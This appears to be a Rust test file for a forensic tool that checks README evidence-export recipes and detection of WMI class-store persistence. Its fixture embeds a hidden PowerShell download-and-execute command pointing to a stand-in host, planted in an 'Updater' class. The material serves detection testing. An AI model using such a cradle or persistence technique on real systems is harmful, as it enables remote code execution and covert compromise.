//! The recipes of the README for exporting evidence.

use crate::support::{TempDir, check_one, utf16};
use std::fs;
use std::path::Path;

/// The commands of a README's PowerShell recipe, without remarks.
fn recipe(readme: &str) -> String {
    let text = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").join(readme)).unwrap();
    let (_, block) = text.split_once("```powershell\n").unwrap();
    let (block, _) = block.split_once("```").unwrap();
    block.lines().filter(|line| !line.starts_with('#')).collect::<Vec<_>>().join("\n")
}

#[test]
fn every_language_has_the_same_recipe_and_powershell_2_runs_it() {
    let recipe_en = recipe("README.md");
    assert_eq!(recipe_en, recipe("README.ja.md"));
    for newer in [
        "Where-Object Name",
        "ForEach-Object Name",
        "Get-CimInstance",
        "ConvertTo-Json",
        " -in ",
        "[ordered]",
    ] {
        assert!(!recipe_en.contains(newer), "{newer}");
    }
    for namespace in [r"root\subscription", r"root\default", r"root\cimv2"] {
        assert!(recipe_en.contains(namespace), "{namespace}");
    }
}

#[test]
fn the_line_before_the_classes_tells_their_namespace() {
    let recipe = recipe("README.md");
    // As PowerShell puts it together: text in single quotes is as it stands.
    let (_, rest) = recipe.split_once("'#pragma").unwrap();
    let (start, _) = rest.split_once("' + $namespace.Replace('\\', '\\\\') + '\")'").unwrap();
    let pragma = |namespace: &str| format!("#pragma{start}{}\")\r\n", namespace.replace('\\', r"\\"));
    let payload =
        "powershell -NoP -W Hidden -C IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a') "
            .repeat(90);
    let class = format!("\r\nclass Updater\r\n{{\r\n  string funs = \"{payload}\";\r\n}};\r\n");
    let text = format!("{}{}{class}", pragma(r"root\subscription"), pragma(r"root\cimv2"));

    let folder = TempDir::new().unwrap();
    let file = folder.path().join("ClassStore.mof");
    fs::write(&file, utf16(&text)).unwrap();
    let (_, host) = check_one(&[&file]);
    let store = host["findings"].as_array().unwrap().iter().find(|finding| finding["kind"] == "class-store");
    assert!(store.unwrap()["subject"].to_string().contains(r"root\\cimv2"), "{host:#}");
}
